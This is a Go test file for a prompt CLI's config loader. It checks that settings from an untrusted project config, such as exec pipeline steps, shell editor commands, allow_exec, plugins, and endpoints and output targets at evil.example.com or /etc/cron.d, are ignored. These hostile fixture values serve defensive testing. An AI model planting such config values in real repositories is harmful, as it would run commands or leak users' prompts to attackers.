@@ -0,0 +1,250 @@
+package config
+
+import (
+	"bytes"
+	"log/slog"
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+
+	"prompter-cli/internal/interfaces"
+)
+
+func TestFindProjectConfigs(t *testing.T) {
+	repo := t.TempDir()
+	sub := filepath.Join(repo, "services", "api")
+	for _, dir := range []string{filepath.Join(repo, ".git"), sub, filepath.Join(repo, "services", ProjectDir)} {
+		if err := os.MkdirAll(dir, 0755); err != nil {
+			t.Fatal(err)
+		}
+	}
+	write := func(path, content string) {
+		t.Helper()
+		if err := os.WriteFile(path, []byte(content), 0644); err != nil {
+			t.Fatal(err)
+		}
+	}
+	write(filepath.Join(repo, ".prompter.toml"), "")
+	write(filepath.Join(repo, ".prmpt.toml"), "")
+	write(filepath.Join(repo, "services", ProjectDir, "config.toml"), "")
+
+	got := FindProjectConfigs(sub)
+	want := []string{
+		filepath.Join(repo, ".prmpt.toml"), // preferred over .prompter.toml in the same directory
+		filepath.Join(repo, "services", ProjectDir, "config.toml"),
+	}
+	if len(got) != len(want) || got[0] != want[0] || got[1] != want[1] {
+		t.Errorf("FindProjectConfigs = %v, want %v", got, want)
+	}
+
+	// Outside a repository only the directory itself is checked
+	outside := t.TempDir()
+	if got := FindProjectConfigs(outside); len(got) != 0 {
+		t.Errorf("expected no project configs, got %v", got)
+	}
+}
+
+func TestManager_Load_ProjectConfig(t *testing.T) {
+	repo := t.TempDir()
+	sub := filepath.Join(repo, "pkg")
+	if err := os.MkdirAll(filepath.Join(repo, ".git"), 0755); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.MkdirAll(sub, 0755); err != nil {
+		t.Fatal(err)
+	}
+
+	global := filepath.Join(t.TempDir(), "config.toml")
+	if err := os.WriteFile(global, []byte("target = \"clipboard\"\nmax_tokens = 1000\ndefault_pre = \"review\"\n"), 0644); err != nil {
+		t.Fatal(err)
+	}
+	project := "target = \"stdout\"\nexclude_patterns = [\"vendor/\"]\nlocal_prompts_location = \"team-prompts\"\n\n[vars]\nteam = \"core\"\n"
+	if err := os.WriteFile(filepath.Join(repo, ".prmpt.toml"), []byte(project), 0644); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.WriteFile(filepath.Join(sub, ".prompter.toml"), []byte("max_tokens = 500\n"), 0644); err != nil {
+		t.Fatal(err)
+	}
+
+	t.Chdir(sub)
+	manager := NewManager()
+	cfg, err := manager.Load(global)
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	if cfg.Target != "stdout" || cfg.MaxTokens != 500 || cfg.DefaultPre != "review" {
+		t.Errorf("expected project settings over global ones, got target=%q max_tokens=%d default_pre=%q", cfg.Target, cfg.MaxTokens, cfg.DefaultPre)
+	}
+	if len(cfg.ExcludePatterns) != 1 || cfg.Vars["team"] != "core" {
+		t.Errorf("unexpected project settings: exclude=%v vars=%v", cfg.ExcludePatterns, cfg.Vars)
+	}
+	if want := filepath.Join(repo, "team-prompts"); cfg.LocalPromptsLocation != want {
+		t.Errorf("LocalPromptsLocation = %q, want %q", cfg.LocalPromptsLocation, want)
+	}
+	if len(manager.ProjectConfigs()) != 2 {
+		t.Errorf("ProjectConfigs = %v", manager.ProjectConfigs())
+	}
+}
+
+func TestManager_Load_ProjectConfigGlobalOnly(t *testing.T) {
+	repo := t.TempDir()
+	if err := os.MkdirAll(filepath.Join(repo, ".git"), 0755); err != nil {
+		t.Fatal(err)
+	}
+	global := filepath.Join(t.TempDir(), "config.toml")
+	if err := os.WriteFile(global, []byte("pipeline = [\"files\", \"render\"]\n"), 0644); err != nil {
+		t.Fatal(err)
+	}
+	project := "pipeline = [\"files\", \"render\", \"exec:touch pwned\"]\nmax_tokens = 500\n"
+	if err := os.WriteFile(filepath.Join(repo, ".prmpt.toml"), []byte(project), 0644); err != nil {
+		t.Fatal(err)
+	}
+
+	t.Chdir(repo)
+	cfg, err := NewManager().Load(global)
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	if len(cfg.Pipeline) != 2 || cfg.Pipeline[1] != "render" {
+		t.Errorf("expected the global pipeline, got %v", cfg.Pipeline)
+	}
+	if cfg.MaxTokens != 500 {
+		t.Errorf("expected other project settings to apply, got max_tokens=%d", cfg.MaxTokens)
+	}
+}
+
+func TestManager_Load_ProjectConfigCommandsAndEndpoints(t *testing.T) {
+	repo := t.TempDir()
+	if err := os.MkdirAll(filepath.Join(repo, ".git"), 0755); err != nil {
+		t.Fatal(err)
+	}
+	global := filepath.Join(t.TempDir(), "config.toml")
+	if err := os.WriteFile(global, []byte("editor = \"vim\"\ntarget = \"http:https://hooks.example.com/mine\"\n"), 0644); err != nil {
+		t.Fatal(err)
+	}
+	project := `allow_exec = true
+editor = "sh -c 'touch pwned'"
+plugins_location = "plugins"
+fetch_allow = ["https://evil.example.com/"]
+target = "http:https://evil.example.com/collect"
+target_fallbacks = ["stdout", "http:https://evil.example.com/collect"]
+editor_target = "stdout"
+
+[openai]
+base_url = "https://evil.example.com/v1"
+model = "gpt-test"
+
+[wasm_plugin.evil]
+path = "evil.wasm"
+functions = ["run"]
+
+[helper.evil]
+command = "./evil"
+
+[recipe.review]
+prompt = "review"
+target = "http:https://evil.example.com/collect"
+
+[[template_sources]]
+url = "https://evil.example.com/prompts.git"
+`
+	if err := os.WriteFile(filepath.Join(repo, ".prmpt.toml"), []byte(project), 0644); err != nil {
+		t.Fatal(err)
+	}
+
+	t.Chdir(repo)
+	cfg, err := NewManager().Load(global)
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	if cfg.AllowExec || cfg.Editor != "vim" || len(cfg.FetchAllow) != 0 {
+		t.Errorf("expected allow_exec, editor, and fetch_allow from the global config, got %v, %q, %v", cfg.AllowExec, cfg.Editor, cfg.FetchAllow)
+	}
+	if strings.Contains(cfg.OpenAI.BaseURL, "evil") || len(cfg.WasmPlugins) != 0 || len(cfg.Helpers) != 0 {
+		t.Errorf("expected no project base_url, wasm plugins, or helpers, got %q, %v, %v", cfg.OpenAI.BaseURL, cfg.WasmPlugins, cfg.Helpers)
+	}
+	if len(cfg.TemplateSources) != 0 {
+		t.Errorf("expected no project template sources, got %v", cfg.TemplateSources)
+	}
+	if filepath.Dir(cfg.PluginsLocation) == repo {
+		t.Errorf("expected the global plugins_location, got %s", cfg.PluginsLocation)
+	}
+	if cfg.Target != "http:https://hooks.example.com/mine" || len(cfg.TargetFallbacks) != 2 || cfg.TargetFallbacks[1] == "http:https://evil.example.com/collect" {
+		t.Errorf("expected project http: targets to be ignored, got %q, %v", cfg.Target, cfg.TargetFallbacks)
+	}
+	if cfg.Recipes["review"].Target != "" {
+		t.Errorf("expected a project recipe's http: target to be ignored, got %q", cfg.Recipes["review"].Target)
+	}
+	// Other settings of the same tables still apply
+	if cfg.OpenAI.Model != "gpt-test" || cfg.EditorTarget != "stdout" || cfg.Recipes["review"].Prompt != "review" {
+		t.Errorf("expected other project settings to apply, got %q, %q, %+v", cfg.OpenAI.Model, cfg.EditorTarget, cfg.Recipes["review"])
+	}
+}
+
+func TestManager_Load_ProjectConfigTargetsAndRedact(t *testing.T) {
+	repo := t.TempDir()
+	if err := os.MkdirAll(filepath.Join(repo, ".git"), 0755); err != nil {
+		t.Fatal(err)
+	}
+	global := filepath.Join(t.TempDir(), "config.toml")
+	if err := os.WriteFile(global, []byte("target = \"stdout\"\n"), 0644); err != nil {
+		t.Fatal(err)
+	}
+	project := `redact = false
+target = "file:../outside.md"
+editor_target = "file+:notes/prompts.md"
+target_fallbacks = ["stdout", "file:~/prompt.md"]
+
+[recipe.review]
+prompt = "review"
+target = "file:/etc/cron.d/prompt"
+
+[preset.docs]
+target = "file:docs/prompt.md"
+`
+	if err := os.WriteFile(filepath.Join(repo, ".prmpt.toml"), []byte(project), 0644); err != nil {
+		t.Fatal(err)
+	}
+
+	var logs bytes.Buffer
+	previous := slog.Default()
+	slog.SetDefault(slog.New(slog.NewTextHandler(&logs, nil)))
+	t.Cleanup(func() { slog.SetDefault(previous) })
+
+	t.Chdir(repo)
+	var cfg *interfaces.Config
+	for range 2 {
+		var err error
+		if cfg, err = NewManager().Load(global); err != nil {
+			t.Fatal(err)
+		}
+	}
+
+	if !cfg.Redact {
+		t.Error("expected redact to be read only from the global config")
+	}
+	if cfg.Target != "stdout" || len(cfg.TargetFallbacks) == 2 && cfg.TargetFallbacks[1] == "file:~/prompt.md" {
+		t.Errorf("expected file targets outside the project to be ignored, got %q, %v", cfg.Target, cfg.TargetFallbacks)
+	}
+	if cfg.Recipes["review"].Target != "" {
+		t.Errorf("expected a recipe's file target outside the project to be ignored, got %q", cfg.Recipes["review"].Target)
+	}
+	// File targets within the project are resolved against it
+	if want := "file+:" + filepath.Join(repo, "notes", "prompts.md"); cfg.EditorTarget != want {
+		t.Errorf("EditorTarget = %q, want %q", cfg.EditorTarget, want)
+	}
+	if want := "file:" + filepath.Join(repo, "docs", "prompt.md"); cfg.Presets["docs"].Target != want {
+		t.Errorf("preset target = %q, want %q", cfg.Presets["docs"].Target, want)
+	}
+
+	// Each ignored setting is reported once however often the config is loaded
+	for _, key := range []string{"key=redact", "key=target ", "key=target_fallbacks", "key=recipe.review.target"} {
+		if n := strings.Count(logs.String(), key); n != 1 {
+			t.Errorf("expected one warning for %s, got %d:\n%s", key, n, logs.String())
+		}
+	}
+}